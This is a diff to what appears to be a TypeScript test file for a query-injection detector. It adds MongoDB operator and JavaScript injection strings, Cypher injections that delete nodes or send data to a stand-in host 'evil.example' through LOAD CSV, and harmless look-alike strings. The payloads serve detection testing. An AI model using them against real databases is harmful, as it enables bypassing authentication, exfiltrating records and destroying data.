@@ -12,6 +12,11 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     '{ $where: "this.pin" }',
     '[{"$lookup":{"from":"staff","as":"a"}}]',
     '{"$or":[{},{"b":"b"}]}',
+    '{"pin":{"$mod":[2,0]}}',
+    '{"pin":{"$type":2}}',
+    '[{"$match":{"pin":"4"}}]',
+    '{"$unset":{"pin":1}}',
+    'filter={"pin":{"$gt":""}}',
   ],
   'operators as names of parameters': [
     'pin[$ne]=1',
@@ -19,11 +24,17 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     'staff[pin][$regex]=^4',
     'name=asha&pin[$exists]=true',
     '$where=this.pin',
+    '$or[0][pin]=4',
+    'pin[$not][$eq]=4',
+    'pin.$ne=4',
   ],
   'operators behind the end of a value': [
     "', $or: [{}, {'b': 'b",
     "3, $where: '3 == 3'",
     "a' } ], $comment: 'c'",
+    '"}, "pin": {"$ne": "',
+    '"]}, {"$or":[{ ',
+    '}, { pin : /4/ }',
   ],
   'JavaScript behind the end of a value': [
     "asha' && this.pin.length < 5 && 'b'=='b",
@@ -36,6 +47,19 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     '3;while(true){}',
     "'||(function(){return true})()||'",
     "' || 3==3//",
+    "'||this||'",
+    "' || Object.keys(this).length>2 || '",
+    "' || (() => { return true })() || '",
+    "'}});//",
+    "b' || true//",
+    "'; this.constructor; var c='",
+    'db.staff.insert({a:3});return 4;db.staff.find({ b: 5',
+  ],
+  'Cypher behind the end of a value': [
+    "'}) return 3//",
+    "' or 3=3 with 4 as b load csv from 'https://evil.example/'+b as c return c//",
+    "b' detach delete c//",
+    "b'})-[c]-(d) return d//",
   ],
 }
 
@@ -50,6 +74,8 @@ const honest: Readonly<Record<string, readonly string[]>> = {
     '{"event":"a","$set":{"plan":"b"},"$type":"c"}',
     '{"price":"$in 5","a":["$ne"]}',
     '"$comment": "says what it is for",',
+    '{"$type":"call","$text":"hello","$size":"large","$all":true}',
+    '{"path":"/a/b","pattern":"/c/"}',
   ],
   'operators that are spoken of': [
     'use $ne or {"$gt": 5} in the filter, as the manual says',
@@ -64,6 +90,9 @@ const honest: Readonly<Record<string, readonly string[]>> = {
     '|| this.match(a, b)',
     `call('a'); sleep(5);`,
     "it's a; return the card",
+    `return 'a' //`,
+    `open('a') // and return`,
+    "she's with us // returned the phone //",
   ],
 }
 
